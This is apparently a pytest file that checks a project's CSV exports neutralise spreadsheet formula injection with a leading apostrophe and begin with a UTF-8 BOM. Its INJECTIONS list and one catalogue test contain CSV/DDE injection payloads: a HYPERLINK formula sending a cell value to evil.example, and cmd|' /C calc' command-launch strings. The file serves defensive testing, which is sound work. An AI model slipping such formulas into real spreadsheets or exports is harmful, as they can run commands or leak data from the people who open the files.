"""Spreadsheet-safe CSV (issue 9, item 4): every CSV the project writes, read back through
Python's csv module, shows the cells a spreadsheet would run neutralised with an apostrophe,
and starts with a UTF-8 byte-order mark."""
import copy
import csv
import io
import subprocess
import sys

import pytest

from generator.site.published_data import CSV_COLUMNS, dispense_csv
from generator.spreadsheet_csv import csv_text, neutralised

from .conftest import ROOT

PROGRAMME = "cqp-assistant-medical"
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&B3,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_formula_cells_get_an_apostrophe(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("value", ["Dupont", "", "12", "a=b", " =1", "'déjà", 7, -3, 0.5, None])
def test_other_cells_and_numbers_are_left_as_they_are(value):
    assert neutralised(value) == value


def test_csv_text_reads_back_neutralised_with_a_bom():
    text = csv_text(["a", "b"], [{"a": cell, "b": -4} for cell in INJECTIONS], delimiter=";")
    assert text.startswith("\ufeffa;b\r\n")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert [row["a"] for row in rows] == ["'" + cell for cell in INJECTIONS]
    assert {row["b"] for row in rows} == {"-4"}   # a number is data: never prefixed


def test_evaluate_batch_output_neutralises_what_applicants_typed(tmp_path):
    applicants = tmp_path / "applicants.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["id", "placement", "=evil()"])
    for cell in INJECTIONS:
        writer.writerow([cell, "none", "1"])
    applicants.write_text(buffer.getvalue(), encoding="utf-8")
    output = tmp_path / "out.csv"
    completed = subprocess.run([sys.executable, "-m", "generator", "evaluate-batch", PROGRAMME, str(applicants),
                                "--today", "2026-11-22", "-o", str(output)],
                               cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert completed.returncode == 2 and "Traceback" not in completed.stderr  # « =evil() » is no question
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfrow,id,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [row["id"] for row in rows] == ["'" + cell for cell in INJECTIONS]
    assert all(row["errors"].startswith("'=evil() : Cette question n'existe pas") for row in rows)


def test_published_dispense_csv_neutralises_catalogue_text(catalogue):
    entry = copy.deepcopy(catalogue.programme(PROGRAMME))
    module = entry.data["blocs"][0]["modules"][0]
    module["title"] = '=HYPERLINK("http://evil.example","x")'
    raw = dispense_csv(entry)
    assert raw.startswith(b"\xef\xbb\xbf" + ";".join(CSV_COLUMNS).encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0]["module"] == "'" + module["title"]
    assert rows[0]["heures"] == str(module["hours"])
    assert sum(int(row["heures"]) for row in rows) == entry.data["hours"]["total"]
